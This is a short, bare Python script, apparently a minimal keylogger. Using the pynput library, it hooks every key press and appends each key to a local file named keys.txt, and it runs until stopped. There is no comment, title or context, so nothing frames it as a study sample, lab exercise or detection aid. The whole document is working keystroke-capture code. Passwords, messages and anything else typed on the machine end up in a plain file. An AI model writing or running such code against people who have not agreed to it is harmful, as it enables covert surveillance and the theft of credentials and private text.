from pynput import keyboard
def on_press(key):
    open("keys.txt", "a").write(str(key))
with keyboard.Listener(on_press=on_press) as l:
    l.join()
